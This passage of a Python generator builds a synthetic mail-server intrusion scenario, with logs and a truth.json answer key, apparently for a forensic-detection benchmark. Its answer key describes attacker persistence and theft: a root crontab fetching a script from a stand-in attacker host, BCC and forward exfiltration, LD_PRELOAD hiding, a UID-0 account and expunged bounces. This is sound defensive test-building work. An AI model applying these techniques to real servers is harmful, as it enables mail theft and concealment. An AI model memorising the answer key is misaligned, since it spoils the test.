PHONE_USER = "wangfang"        # the hard negative: a new phone on the office network syncs everything
CONTRACTS = "合同"              # the folder the attacker read first


def tsess():
    return "".join(TR.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(16))


def vsize(size):
    """A message's virtual size (CRLF line ends), what IMAP and POP3 send: about one CR per 70 bytes."""
    return size + size // 70


def msg(size, t=None, mid=None):
    return {"size": size, "hdr": TR.randint(900, 4200), "mid": mid, "t": t}


class Mailboxes:
    """Every user's folders: uid -> message, with the next uid, in the order things happened."""

    def __init__(self):
        self.boxes = {}
        for user, folders in FOLDERS.items():
            self.boxes[user] = {}
            for name, n, median in folders:
                msgs = {}
                uid = 0
                for _ in range(n):
                    uid += 1 if TR.random() < 0.8 else TR.randint(2, 9)  # earlier expunges leave gaps
                    size = int(min(25_000_000, max(700, TR.lognormvariate(math.log(median), 1.0))))
                    msgs[uid] = msg(size)
                self.boxes[user][name] = {"msgs": msgs, "next": uid + TR.randint(1, 40)}

    def add(self, user, box, m):
        f = self.boxes[user][box]
        uid = f["next"]
        f["next"] += 1
        f["msgs"][uid] = m
        return uid

    def remove(self, user, box, uid):
        return self.boxes[user][box]["msgs"].pop(uid)

    def mid(self, m):
        """The Message-ID of a message from before 1 March, made up when first logged."""
        if m["mid"] is None:
            host, _, dom = TR.choice(PARTNERS)
            m["mid"] = f"<{TR.randint(10**11, 10**12)}.{TR.randint(1000, 9999)}@{dom}>"
        return m["mid"]

    def totals(self, user, folders=None):
        n = b = 0
        for name, f in self.boxes[user].items():
            if folders is None or name in folders:
                n += len(f["msgs"])
                b += sum(vsize(m["size"]) for m in f["msgs"].values())
        return n, b


def arrivals():
    """Mail that reached the mailboxes, read back from the finished log: local deliveries into
    INBOX (size from qmgr, Message-ID from cleanup), the non-delivery notices Postfix sent the
    spamming login, and what the users' own clients saved to Sent after submitting."""
    size, mid, sender, out = {}, {}, {}, []
    for t, _, text, _ in sorted(mail.lines, key=lambda x: (x[0], x[1])):
        prog, _, body = text.split(f" {HOST} ", 1)[1].partition(": ")
        q = body.split(":", 1)[0]
        if prog.startswith("postfix/qmgr[") and ", size=" in body:
            size[q] = int(body.split(", size=")[1].split(",")[0])
            sender[q] = body.split("from=<", 1)[1].split(">", 1)[0]
        elif prog.startswith("postfix/cleanup[") and "message-id=" in body:
            mid[q] = body.split("message-id=", 1)[1]
        elif prog.startswith("postfix/local[") and "relay=local" in body and "status=sent (delivered to command: /usr/lib/dovecot/deliver" in body:
            user = body.split("to=<", 1)[1].split("@", 1)[0]
            if user in FOLDERS and q in size:
                out.append((t, user, "INBOX", msg(size[q] + 96, t, mid.get(q))))
        elif prog.startswith("postfix/bounce[") and "sender non-delivery notification: " in body:
            ndr = body.rsplit(" ", 1)[1]
            user = sender.get(q, "").split("@", 1)[0]
            if user in FOLDERS:
                # Postfix returns the original with its notice, up to bounce_size_limit (50000).
                out.append((t, user, "INBOX", dict(msg(min(size[q], 50000) + 2400, t, mid.get(ndr)), ndr=True)))
        elif prog.startswith("postfix/submission/smtpd[") and f"client={OFFICE[0]}[{OFFICE[1]}], sasl_method=PLAIN" in body:
            user = body.rsplit("sasl_username=", 1)[1]
            out.append((t + dt.timedelta(seconds=2), user, "Sent", ("sent", q)))
    # The Sent copies take the size qmgr logged a moment later.
    return [(t, u, b, msg(size[m[1]] + 40, t) if isinstance(m, tuple) else m) for t, u, b, m in out
            if not isinstance(m, tuple) or m[1] in size]


def imap_stats(i, o, deleted=0, expunged=0, trashed=0, hdr=(0, 0), body=(0, 0)):
    """Dovecot 2.3's default imap_logout_format."""
    return (f"in={i} out={o} deleted={deleted} expunged={expunged} trashed={trashed} "
            f"hdr_count={hdr[0]} hdr_bytes={hdr[1]} body_count={body[0]} body_bytes={body[1]}")


def mail_log(prefix, t, event, box, uid, m):
    """One mail_log plugin line with the default fields (box, uid, msgid, size)."""
    mail.add(t, "dovecot", None, f"{prefix}{event}: box={box}, uid={uid}, msgid={MB.mid(m)}, size={m['size']}", m.get("tag"))


def ordinary(sn, seen):
    """A user's own client: headers of what arrived since it last looked, the bodies opened,
    now and then a message moved to Trash or deleted for good."""
    user, prefix = sn["user"], f"imap({sn['user']})<{sn['pid']}><{sn['sid']}>: "
    inbox = MB.boxes[user]["INBOX"]["msgs"]
    since = seen.get(sn["client"], sn["t"] - dt.timedelta(hours=10))
    new = [(uid, m) for uid, m in inbox.items() if m["t"] is not None and since < m["t"] <= sn["t"]]
    seen[sn["client"]] = sn["t"]
    # The account's owner leaves the bounces of the spam alone (the attacker removes them).
    mine = [(uid, m) for uid, m in new if not m.get("ndr")]
    opened = [(uid, m) for uid, m in new if TR.random() < (0.75 if sn["client"] == OFFICE[1] else 0.4)]
    hdr = (len(new), sum(m["hdr"] for _, m in new))
    body = (len(opened), sum(vsize(m["size"]) for _, m in opened))
    deleted = expunged = trashed = 0
    r = TR.random() if sn["kind"] == "ordinary" else 1.0  # the cut session: reading only
    dur = (sn["end"] - sn["t"]).total_seconds()
    at = s(sn["t"], TR.uniform(5, max(6, dur - 5)))
    if mine and r < 0.12:
        # MOVE to Trash: mail_log logs the copy, then the expunge of the original.
        k = TR.randint(1, min(3, len(mine)))
        moved = mine[-k:]
        for uid, m in moved:
            mail_log(prefix, at, "copy from INBOX", "Trash", MB.add(user, "Trash", m), m)
        for uid, m in moved:
            mail_log(prefix, s(at, 0.05), "expunge", "INBOX", uid, m)
            MB.remove(user, "INBOX", uid)
        trashed = k
    elif mine and r < 0.16:
        # Deleted for good: flagged \\Deleted, then expunged.
        k = TR.randint(1, min(2, len(mine)))
        gone = mine[:k]
        for uid, m in gone:
            mail_log(prefix, at, "delete", "INBOX", uid, m)
        for uid, m in gone:
            mail_log(prefix, s(at, 1.2), "expunge", "INBOX", uid, m)
            MB.remove(user, "INBOX", uid)
        deleted = expunged = k
    i = TR.randint(140, 900) + 70 * body[0] + 60 * (deleted + trashed)
    o = hdr[1] + body[1] + 110 * (hdr[0] + body[0]) + TR.randint(600, 6000)
    mail.add(sn["end"], "dovecot", None,
             prefix + "Disconnected: Logged out " + imap_stats(i, o, deleted, expunged, trashed, hdr, body), sn["tag"])


def login_line(t, proto, user, ip, p, sid, tag):
    mail.add(t, "dovecot", None,
             f"{proto}-login: Login: user=<{user}>, method=PLAIN, rip={ip}, lip={SERVER_IP}, mpid={p}, TLS, session=<{sid}>", tag)


def theft_session(kind, t, user, ip, proto="imap", tag=None, secs=None):
    sn = {"kind": kind, "proto": proto, "user": user, "ip": ip, "t": t, "end": None, "pid": TR.randint(1200, 48000),
          "sid": tsess(), "tag": tag, "client": (user, ip, kind), "secs": secs}
    SESSIONS.append(sn)
    return sn


def special(sn):
    """The sessions of the theft episode and of the new phone: counters from the whole mailbox."""
    user, ip, t, kind, tag = sn["user"], sn["ip"], sn["t"], sn["kind"], sn["tag"]
    prefix = f"{sn['proto']}({user})<{sn['pid']}><{sn['sid']}>: "
    login_line(t, sn["proto"], user, ip, sn["pid"], sn["sid"], tag)
    boxes = MB.boxes[user]
    everything = MB.totals(user)
    rec = {"kind": kind, "protocol": sn["proto"], "account": user, "source": ip, "session": sn["sid"],
           "login_local": t.isoformat(), "login_utc": utc(t)}
    if kind in ("browse", "phone", "download"):
        heads = sum(m["hdr"] for f in boxes.values() for m in f["msgs"].values())
        if kind == "browse":      # headers of every folder, the bodies of one
            hdr = (everything[0], heads)
            body = MB.totals(user, [CONTRACTS])
            rec["folders_read"] = [CONTRACTS]
        elif kind == "phone":     # a new phone's first sync: every header and every body
            hdr, body = (everything[0], heads), everything
        else:                     # a whole-mailbox download (BODY.PEEK[] of every message)
            hdr, body = (0, 0), everything
        rec["folders"] = {name: {"messages": len(f["msgs"]), "bytes": sum(vsize(m["size"]) for m in f["msgs"].values())}
                          for name, f in boxes.items()}
        secs = sn["secs"] or int(body[1] / 520_000) + TR.randint(40, 120)
        end = s(t, secs)
        i = 300 + 40 * len(boxes) + (48 * body[0] if kind == "download" else 60 * body[0] // 10)
        o = hdr[1] + body[1] + 70 * (hdr[0] + body[0]) + TR.randint(3000, 9000)
        line = prefix + "Disconnected: Logged out " + imap_stats(i, o, hdr=hdr, body=body)
        rec.update({"listed": hdr[0], "listed_bytes": hdr[1], "messages": body[0], "bytes": body[1],
                    "mailbox_messages": everything[0], "mailbox_bytes": everything[1]})
    elif kind == "pop3":          # POP3 sees INBOX only; RETR of every message, none deleted
        inbox = boxes["INBOX"]["msgs"].values()
        n, size = len(inbox), sum(vsize(m["size"]) for m in inbox)
        retr = sum(vsize(m["size"]) + len(f"+OK {vsize(m['size'])} octets\r\n") + 3 for m in inbox)
        end = s(t, int(retr / 480_000) + TR.randint(20, 60))
        line = prefix + f"Disconnected: Logged out top=0/0, retr={n}/{retr}, del=0/{n}, size={size}"
        rec.update({"folders_read": ["INBOX"], "messages": n, "bytes": retr, "mailbox_messages": n, "mailbox_bytes": size})
    else:                         # cover-up: the non-delivery notices flagged \Deleted and expunged
        ndrs = [(uid, m) for uid, m in boxes["INBOX"]["msgs"].items() if m.get("ndr")]
        at = s(t, 21)
        for uid, m in ndrs:
            m["tag"] = tag
            mail_log(prefix, at, "delete", "INBOX", uid, m)
        at = s(at, 4)
        for uid, m in ndrs:
            mail_log(prefix, at, "expunge", "INBOX", uid, m)
            MB.remove(user, "INBOX", uid)
        k = len(ndrs)
        end = s(at, 9)
        line = prefix + "Disconnected: Logged out " + imap_stats(520 + 7 * k, 2400 + 61 * k, k, k, 0)
        rec.update({"folders": ["INBOX"], "deleted": k, "expunged": k,
                    "deleted_bytes": sum(m["size"] for _, m in ndrs),
                    "what": "the non-delivery notices of the spam sent through the account"})
    mail.add(end, "dovecot", None, line, tag)
    rec.update({"logout_local": end.isoformat(), "logout_utc": utc(end), "_line": line, "_login_sid": sn["sid"]})
    THEFT.setdefault("sessions", []).append(rec)


def utc(t):
    return t.astimezone(dt.timezone.utc).isoformat().replace("+00:00", "Z")


def theft():
    """The episode: after the cut session, the attacker looks through liwei's mailbox (every
    header, the contracts folder's bodies), then downloads all of it; the next morning it takes
    INBOX again by POP3 and, after the last spam wave, expunges the bounces that would have told
    liwei. A new phone of wangfang's syncs her whole mailbox from the office network."""
    d = lambda day, h, m, sec: dt.datetime(2026, 3, day, h, m, sec, tzinfo=TZ)
    theft_session("browse", d(4, 3, 10, 14), COMPROMISED, THEFT_IP, tag="mailbox_browse", secs=506)
    theft_session("download", d(4, 3, 24, 5), COMPROMISED, THEFT_IP, tag="mailbox_download")
    theft_session("pop3", d(5, 7, 36, 2), COMPROMISED, THEFT_IP, proto="pop3", tag="mailbox_pop3_retrieve")
    theft_session("cleanup", d(4, 4, 41, 17), COMPROMISED, THEFT_IP, tag="mail_deletion_coverup")
    theft_session("cleanup", d(5, 8, 51, 30), COMPROMISED, THEFT_IP, tag="mail_deletion_coverup")
    theft_session("phone", d(4, 10, 5, 12), PHONE_USER, OFFICE[1], tag="legit_new_phone_sync")


def sessions_end():
    """Replays mail arrivals and sessions in time order against the mailboxes."""
    global MB
    MB = Mailboxes()
    events = [(t, 0, ("arrive", u, b, m)) for t, u, b, m in arrivals()]
    events += [(sn["t"], 1, ("session", sn)) for sn in SESSIONS]
    seen = {}
    for _, _, e in sorted(events, key=lambda x: (x[0], x[1])):
        if e[0] == "arrive":
            MB.add(e[1], e[2], e[3])
        elif e[1]["kind"] in ("ordinary", "cut"):
            ordinary(e[1], seen)
        else:
            special(e[1])


def auth_background():
    for day in range(1, 6):
        for _ in range(14):
            t = dt.datetime(2026, 3, day, tzinfo=TZ) + dt.timedelta(seconds=R.uniform(0, 86400))
            if t > dt.datetime(2026, 3, 5, 11, 0, tzinfo=TZ):
                continue
            ip = f"{R.choice([61, 112, 141, 218])}.{R.randint(1, 254)}.{R.randint(1, 254)}.{R.randint(1, 254)}"
            p = pid()
            u = R.choice(["root", "admin", "oracle", "ubuntu", "test"])
            inv = "" if u == "root" else "invalid user "
            auth.add(t, "sshd", p, f"Failed password for {inv}{u} from {ip} port {R.randint(30000, 65000)} ssh2")
            auth.add(s(t, 1), "sshd", p, f"Connection closed by {'authenticating' if not inv else 'invalid'} user {u} {ip} port {R.randint(30000, 65000)} [preauth]")
        for h in (6, 18):
            t = dt.datetime(2026, 3, day, h, 25, 1, tzinfo=TZ)
            if t < dt.datetime(2026, 3, 5, 11, 0, tzinfo=TZ):
                p = pid()
                auth.add(t, "CRON", p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
                auth.add(s(t, 2), "CRON", p, "pam_unix(cron:session): session closed for user root")
        for _ in range(2):
            t = dt.datetime(2026, 3, day, tzinfo=TZ) + dt.timedelta(seconds=R.uniform(9 * 3600, 18 * 3600))
            if day == 4 or t > dt.datetime(2026, 3, 5, 11, 0, tzinfo=TZ):
                continue
            p = pid()
            auth.add(t, "sshd", p, f"Accepted publickey for admin from {OFFICE[1]} port {R.randint(40000, 60000)} ssh2: ED25519 SHA256:q8Lk2Jt0x5rJ9m3u4dPqYf1bXc7vN2aHs6WkZ0eRtYo")
            auth.add(t, "sshd", p, "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)")
            auth.add(s(t, 900), "sshd", p, "pam_unix(sshd:session): session closed for user admin")


def theft_truth(texts):
    """truth["theft"]: the episode's sessions with their lines, the findings expected of it, the
    hard negative and the baseline of ordinary sessions."""
    files = {"mail.log.1": texts["mail.log.1"].splitlines(), "mail.log": texts["mail.log"].splitlines()}

    def where(needle):
        for name, lines in files.items():
            for i, l in enumerate(lines, 1):
                if needle in l:
                    return {"path": f"/var/log/{name}", "line": i}
        raise SystemExit(f"needle not found: {needle!r}")

    def all_lines(needle):
        out = []
        for name, lines in files.items():
            out += [(f"/var/log/{name}", i) for i, l in enumerate(lines, 1) if needle in l]
        return out

    sessions = []
    for rec in THEFT["sessions"]:
        sid = rec.pop("_login_sid")
        logout_text = rec.pop("_line")
        rec["login"] = where(f"session=<{sid}>")
        rec["logout"] = where(logout_text)
        rec["logout"]["text"] = logout_text
        if rec["kind"] == "cleanup":
            for event in ("delete", "expunge"):
                at = all_lines(f"<{sid}>: {event}: box=")
                rec[f"{event}_lines"] = {"path": at[0][0], "first": at[0][1], "last": at[-1][1], "count": len(at)}
        sessions.append(rec)
    by = lambda kind: [r for r in sessions if r["kind"] == kind]
    (browse,), (download,), (pop,), (phone,) = by("browse"), by("download"), by("pop3"), by("phone")
    cleanups = by("cleanup")

    def item(rule, r, what, accessed, phase="exfiltration"):
        """One expected finding in the shape of the Exchange sample's items: the session's login
        (it names the address) and logout (its counters) are the lines a finding must cite."""
        assert r["login"]["path"] == r["logout"]["path"]
        return {"rule": rule, "file": r["login"]["path"].lstrip("/"), "lines": [r["login"]["line"], r["logout"]["line"]],
                "what": what, "phase": phase, "users": [COMPROMISED], "ips": [THEFT_IP],
                "accessed": dict(accessed, mailbox=COMPROMISED, sources=[THEFT_IP])}

    expected = [
        item("exfil.mailbox_download", download,
             f"IMAP download of liwei's whole mailbox ({download['messages']} messages, {download['bytes']} bytes, every folder) from {THEFT_IP}",
             {"how": "imap", "messages": download["messages"], "bytes": download["bytes"]}),
        item("exfil.mailbox_download", browse,
             f"IMAP look through liwei's mailbox: headers of all {browse['listed']} messages, bodies of the {CONTRACTS} folder ({browse['messages']} messages, {browse['bytes']} bytes)",
             {"how": "imap", "messages": browse["messages"], "bytes": browse["bytes"], "listed": browse["listed"]}),
        item("exfil.pop_retrieve", pop,
             f"POP3 retrieval of all {pop['messages']} messages of liwei's INBOX ({pop['bytes']} bytes sent)",
             {"how": "pop3", "messages": pop["messages"], "bytes": pop["bytes"]}),
    ] + [
        dict(item("cleanup.mail_deletion", r,
                  f"the spam's bounces deleted from liwei's INBOX: {r['expunged']} messages flagged \\Deleted and expunged "
                  f"(mail_log delete/expunge lines {r['delete_lines']['first']}–{r['expunge_lines']['last']}, deleted=/expunged= on the logout line)",
                  {"how": "imap", "deleted": r["expunged"], "folders": ["INBOX"]}, phase="cleanup"),
             mail_log=[r["delete_lines"], r["expunge_lines"]])
        for r in cleanups
    ]
    legit = [sn for sn in SESSIONS if sn["kind"] == "ordinary"]
    stats = []
    for sn in legit:
        end = [l for l in mail.lines if f"<{sn['sid']}>: Disconnected: Logged out" in l[2]]
        if end:
            kv = dict(x.split("=") for x in end[0][2].split("Logged out ", 1)[1].split())
            stats.append({k: int(v) for k, v in kv.items()})
    med = lambda k: sorted(st[k] for st in stats)[len(stats) // 2]
    return {
        "story": ("After the cut session, 203.0.113.79 logs in to liwei's mailbox by IMAP on 4 Mar 03:10 (+08:00) and "
                  f"fetches every header and the bodies of the {CONTRACTS} (contracts) folder, then at 03:24 downloads every "
                  "message of every folder; at 04:41, after the first two spam waves, it flags the bounces of the spam in INBOX "
                  "\\Deleted and expunges them, so liwei's morning client shows none; on 5 Mar 07:36 it retrieves all of INBOX by "
                  "POP3, and at 08:51, after the last wave, it deletes that wave's bounces the same way. Hard negative: on 4 Mar "
                  "10:05 wangfang sets up a new phone on the office Wi-Fi (the office NAT 192.0.2.10, her usual address) and it "
                  "syncs her whole mailbox."),
        "account": COMPROMISED,
        "attacker_sources": [THEFT_IP],
        "sessions": sessions,
        "expected": expected,
        "negatives": [{
            "rule": "exfil.mailbox_download", "max_severity": "low", "users": [PHONE_USER], "ips": [OFFICE[1]],
            "file": phone["login"]["path"].lstrip("/"), "lines": [phone["login"]["line"], phone["logout"]["line"]],
            "why": (f"wangfang's new phone syncing her whole mailbox ({phone['messages']} messages, {phone['bytes']} bytes) from "
                    "the office network she always uses, in working hours: no medium or higher exfil.mailbox_download may name "
                    "her or 192.0.2.10"),
        }, {
            "rule": "cleanup.mail_deletion", "max_severity": None, "users": [u for u in USERS if u != COMPROMISED],
            "why": ("the users' own clients move a message or three to Trash or delete one or two for good now and then: "
                    "no cleanup.mail_deletion may name them (max_severity null: no finding at all)"),
        }],
        "baseline": {
            "ordinary_imap_sessions": len(stats),
            "body_count": {"median": med("body_count"), "max": max(st["body_count"] for st in stats)},
            "body_bytes": {"median": med("body_bytes"), "max": max(st["body_bytes"] for st in stats)},
            "hdr_count": {"median": med("hdr_count"), "max": max(st["hdr_count"] for st in stats)},
            "sessions_with_moves_to_trash": sum(1 for st in stats if st["trashed"]),
            "sessions_with_deletions": sum(1 for st in stats if st["expunged"]),
            "expunged_max": max(st["expunged"] for st in stats),
        },
        "line_formats": {
            "imap_logout": "src/imap/imap-settings.c (imap_logout_format), src/imap/imap-client.c (\"Disconnected: %s %s\"), src/imap/cmd-logout.c (\"Logged out\")",
            "pop3_logout": "src/pop3/pop3-settings.c (pop3_logout_format), src/pop3/pop3-client.c (client_stats), src/pop3/pop3-commands.c",
            "mail_log": "src/plugins/mail-log/mail-log-plugin.c (default fields uid box msgid size; desc \"expunge\", \"delete\", \"copy from <box>\")",
            "login": "src/login-common/login-settings.c (login_log_format_elements), src/lib-storage/mail-storage-settings.c (mail_log_prefix)",
            "dovecot": "dovecot/core tag 2.3.19.1",
        },
    }


def split_days(log, boundaries):
    """Split sorted lines into rotation files; boundaries are (name, start, end)."""
    lines = sorted(log.lines, key=lambda x: (x[0], x[1]))
    out = {}
    for name, start, end in boundaries:
        out[name] = [l for l in lines if start <= l[0] < end]
    return out


def write(root, rel, text, mode=0o644):
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w" if isinstance(text, str) else "wb") as f:
        f.write(text)
    os.chmod(path, mode)
    return path


def line_of(rel_text, needle):
    for i, l in enumerate(rel_text.splitlines(), 1):
        if needle in l:
            return i
    raise SystemExit(f"needle not found: {needle!r}")


def main(root):
    if os.path.exists(root):
        shutil.rmtree(root)
    os.makedirs(root)
    for day in (1, 2, 3):
        day_traffic(dt.date(2026, 3, day))
    day_traffic(dt.date(2026, 3, 4))
    day_traffic(dt.date(2026, 3, 5), until=dt.datetime(2026, 3, 5, 11, 0, tzinfo=TZ))
    attack()
    theft()
    sessions_end()
    auth_background()

    mid = lambda d, h=0, m=0, sec=0: dt.datetime(2026, 3, d, h, m, sec, tzinfo=TZ)
    rot = [("mail.log.4.gz", mid(1), mid(2)), ("mail.log.3.gz", mid(2), mid(3)), ("mail.log.2.gz", mid(3), mid(4)),
           ("mail.log.1", mid(4), mid(5)), ("mail.log", mid(5), mid(5, 11))]
    files = split_days(mail, rot)
    # The cut: every line of 4 Mar 02:16:30-02:44:10 is removed from what became mail.log.1.
    cut_start, cut_end = mid(4, 2, 16, 30), mid(4, 2, 44, 10)
    day4 = files["mail.log.1"]
    cut = [l for l in day4 if cut_start <= l[0] < cut_end]
    files["mail.log.1"] = [l for l in day4 if not (cut_start <= l[0] < cut_end)]
    before_gap = [l for l in files["mail.log.1"] if l[0] < cut_start][-1]
    after_gap = [l for l in files["mail.log.1"] if l[0] >= cut_end][0]

    truth = {"host": FQDN, "timezone": "Asia/Shanghai", "year": 2026, "logs": {}, "items": []}
    texts = {}
    for name, start, end in rot:
        text = "".join(l[2] + "\n" for l in files[name])
        texts[name] = text
        plain = name[:-3] if name.endswith(".gz") else name
        last = files[name][-1][0] if files[name] else start
        truth["logs"][f"/var/log/{name}"] = {
            "lines": len(files[name]),
            "first": files[name][0][0].isoformat(), "last": last.isoformat(),
            "mtime": (last + dt.timedelta(seconds=1)).isoformat() if name == "mail.log" else (end + dt.timedelta(seconds=2)).isoformat(),
        }
        path = os.path.join(root, "var/log", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if name.endswith(".gz"):
            with open(path, "wb") as raw:
                with gzip.GzipFile(filename=plain, mode="wb", fileobj=raw, mtime=int(end.timestamp())) as gz:
                    gz.write(text.encode())
        else:
            write(root, f"var/log/{name}", text, 0o640)
    # auth.log: .1 holds 1-4 March, the live file 5 March.
    afiles = split_days(auth, [("auth.log.1", mid(1), mid(5)), ("auth.log", mid(5), mid(5, 11))])
    for name, lines in afiles.items():
        write(root, f"var/log/{name}", "".join(l[2] + "\n" for l in lines), 0o640)
    atexts = {n: "".join(l[2] + "\n" for l in ls) for n, ls in afiles.items()}
    write(root, "var/log/mail.err", "".join(
        f"Mar {d}  {h:02d}:12:44 {HOST} postfix/smtpd[{pid()}]: warning: hostname 185-{d}-{h}.example does not resolve to address 185.{d}.{h}.9: Name or service not known\n".replace(f"Mar {d}  ", f"Mar  {d} ")
        for d in (2, 3, 4, 5) for h in (3, 14)), 0o640)

    configs(root)
    homes(root)
    system(root)
    host_backdoor(root)
    compile_maps(root)

    def item(kind, path, needle, detail, phase="persistence"):
        text = open(os.path.join(root, path.lstrip("/")), errors="replace").read()
        truth["items"].append({"kind": kind, "path": path, "line": line_of(text, needle), "text": needle, "detail": detail, "phase": phase})

    item("main_cf_bcc_map", "/etc/postfix/main.cf", "recipient_bcc_maps = hash:/etc/postfix/recipient_bcc",
         "recipient BCC map enabled; copies the director's incoming mail out")
    item("bcc_map_entry", "/etc/postfix/recipient_bcc", f"zhangwei@{DOMAIN}", f"zhangwei -> zw.archive@{EXFIL_DOMAIN}")
    item("virtual_alias_external", "/etc/postfix/virtual", f"fin-reports@{EXFIL_DOMAIN}",
         f"finance@ expands to an outside address as well as chenjing")
    item("alias_external", "/etc/aliases", f"webmaster.oceanlab@{EXFIL_DOMAIN}", "webmaster alias copies to an outside address")
    item("dotforward_external", f"/home/{COMPROMISED}/.forward", f"liwei.mobile@{EXFIL_DOMAIN}", "user forward to outside address (keeps a local copy)")
    item("dotforward_pipe_nologin", "/var/backups/.forward", "|/var/backups/.cache/sync.sh",
         "nologin service account 'backup' pipes its mail to a hidden script")
    item("sieve_redirect", "/home/wangfang/sieve/roundcube.sieve", f"wf.backup@{EXFIL_DOMAIN}",
         "sieve redirect :copy (active through the ~/.dovecot.sieve symlink)")
    item("cron_download_exec", "/var/spool/cron/crontabs/root", f"http://{ATTACKER}/p.sh", "root crontab fetches and runs a script")
    item("cron_replant", "/etc/cron.d/pf-maint", "recipient_bcc", "cron job re-plants the BCC map and reloads Postfix every 20 minutes")
    truth["items"].append({"kind": "transport_hijack_compiled_only", "path": "/etc/postfix/transport.db", "line": None,
                           "text": f"partner.example.net -> smtp:[{ATTACKER}]:2525",
                           "detail": "present in transport.db only: the text source /etc/postfix/transport lacks it (edit compiled map, keep source clean)",
                           "phase": "persistence"})
    def host_item(kind, rule, path, needle, detail):
        item(kind, path, needle, detail)
        truth["items"][-1]["rule"] = rule

    host_item("uid0_account", "persistence.account", "/etc/passwd", f"{BACKDOOR}:x:0:0",
              "a second UID-0 account with a login shell, made with useradd -o at 02:21 (auth.log.1)")
    host_item("root_ssh_key_forced_command", "persistence.ssh_key", "/root/.ssh/authorized_keys", 'command="',
              "the attacker's key for root, with a forced command that restarts the implant")
    host_item("ld_preload", "persistence.preload", "/etc/ld.so.preload", PRELOAD_LIB,
              "a library preloaded into every program (hides the implant's processes and files)")
    host_item("systemd_timer_devshm", "persistence.service", "/etc/systemd/system/dbus-sync.service",
              f"ExecStart={IMPLANT_DIR}/dbus-sync",
              "an enabled timer runs the implant from /dev/shm every 10 minutes")
    host_item("history_download", "host.history", "/root/.bash_history", f"http://{ATTACKER}/x.tgz",
              "root's history shows the kit downloaded into /dev/shm and every backdoor set up")
    truth["gap"] = {"path": "/var/log/mail.log.1", "after_line": texts["mail.log.1"].splitlines().index(before_gap[2]) + 1,
                    "last_before": before_gap[0].isoformat(), "first_after": after_gap[0].isoformat(),
                    "removed_lines": len(cut), "removed_from": cut_start.isoformat(), "removed_to": cut_end.isoformat(),
                    "phase": "cleanup"}
    takeover_line = line_of(texts["mail.log.1"], f"sasl_username={COMPROMISED}\n".strip() if False else f"client=unknown[{ATTACKER}], sasl_method=LOGIN, sasl_username={COMPROMISED}")
    truth["compromised_account"] = {"user": COMPROMISED, "first_malicious_login": mid(4, 2, 14, 7).isoformat(),
                                    "first_malicious_login_utc": mid(4, 2, 14, 7).astimezone(dt.timezone.utc).isoformat().replace("+00:00", "Z"),
                                    "from": ATTACKER, "evidence": {"path": "/var/log/mail.log.1", "line": takeover_line}}
    truth["ssh_login"] = {"path": "/var/log/auth.log.1", "line": line_of(atexts["auth.log.1"], f"Accepted password for {COMPROMISED} from {ATTACKER}")}
    counts = {}
    for log in (mail, auth):
        for l in log.lines:
            if l[3]:
                counts[l[3]] = counts.get(l[3], 0) + 1
    truth["attackers"] = {
        "recon_scanner": [SCANNER], "smtp_brute_force": [ATTACKER], "spray": SPRAYERS, "imap_brute_force": [IMAP_BRUTE],
        "relay_probe": [RELAY_PROBER], "spam_sources_with_stolen_login": [ATTACKER, ATTACKER2],
        "transport_hijack_relay": [f"{ATTACKER}:2525"],
    }
    truth["exfil_addresses"] = [f"zw.archive@{EXFIL_DOMAIN}", f"fin-reports@{EXFIL_DOMAIN}", f"liwei.mobile@{EXFIL_DOMAIN}",
                                f"wf.backup@{EXFIL_DOMAIN}", f"webmaster.oceanlab@{EXFIL_DOMAIN}"]
    truth["legitimate"] = {"users": [u for u in USERS if u != COMPROMISED], "client_addresses": [OFFICE[1]],
                           "benign_forward": "/home/admin/.forward (internal address only)"}
    truth["tagged_line_counts"] = dict(sorted(counts.items()))
    truth["theft"] = theft_truth(texts)
    truth["phases"] = ["recon 2026-03-03T22:10+08:00", "initial_access 2026-03-04T00:58+08:00 (brute force) / 02:14:07 (takeover)",
                       "persistence 2026-03-04T02:19-02:53+08:00", "exfiltration 2026-03-04T02:45+08:00 onward (spam, BCC/forward copies)",
                       "cleanup 2026-03-04T02:16:30-02:44:10+08:00 cut from mail.log",
                       "exfiltration 2026-03-04T03:10+08:00 onward (liwei's mailbox read and downloaded by IMAP, INBOX retrieved by POP3 on 5 Mar 07:36)",
                       "cleanup 2026-03-04T04:41+08:00 and 2026-03-05T08:51+08:00 (the spam's bounces expunged from liwei's INBOX)"]
    write(root, "truth.json", json.dumps(truth, indent=2) + "\n")
    readme(root, truth)
    # Realistic mtimes when generated locally (git does not keep them; tests set their own).
    for rel, info in truth["logs"].items():
        ts = dt.datetime.fromisoformat(info["mtime"]).timestamp()
        os.utime(os.path.join(root, rel.lstrip("/")), (ts, ts))


def configs(root):
    main_cf = f"""# See /usr/share/postfix/main.cf.dist for a commented, more complete version


# Debian specific:  Specifying a file name will cause the first
# line of that file to be used as the name.  The Debian default
# is /etc/mailname.
#myorigin = /etc/mailname

smtpd_banner = $myhostname ESMTP $mail_name (Debian/GNU)
biff = no

# appending .domain is the MUA's job.
append_dot_mydomain = no

readme_directory = no

# See http://www.postfix.org/COMPATIBILITY_README.html -- default to 3.6 on
# fresh installs.
compatibility_level = 3.6

# TLS parameters
smtpd_tls_cert_file=/etc/ssl/certs/{FQDN}.crt
smtpd_tls_key_file=/etc/ssl/private/{FQDN}.key
smtpd_tls_security_level=may

smtp_tls_CApath=/etc/ssl/certs
smtp_tls_security_level=may
smtp_tls_session_cache_database = btree:${{data_directory}}/smtp_scache

smtpd_relay_restrictions = permit_mynetworks permit_sasl_authenticated defer_unauth_destination
smtpd_recipient_restrictions = permit_mynetworks,
    permit_sasl_authenticated,
    reject_unauth_destination,
    reject_rbl_client zen.spamhaus.org
myhostname = {FQDN}
alias_maps = hash:/etc/aliases
alias_database = hash:/etc/aliases
myorigin = /etc/mailname
mydestination = $myhostname, {DOMAIN}, {HOST}, localhost.localdomain, localhost
relayhost =
mynetworks = 127.0.0.0/8 [::ffff:127.0.0.0]/104 [::1]/128
mailbox_command = /usr/lib/dovecot/deliver -c /etc/dovecot/dovecot.conf -m "${{EXTENSION}}"
mailbox_size_limit = 0
message_size_limit = 52428800
recipient_delimiter = +
inet_interfaces = all
inet_protocols = all
home_mailbox = Maildir/

# SASL through Dovecot (enabled per service in master.cf)
smtpd_sasl_type = dovecot
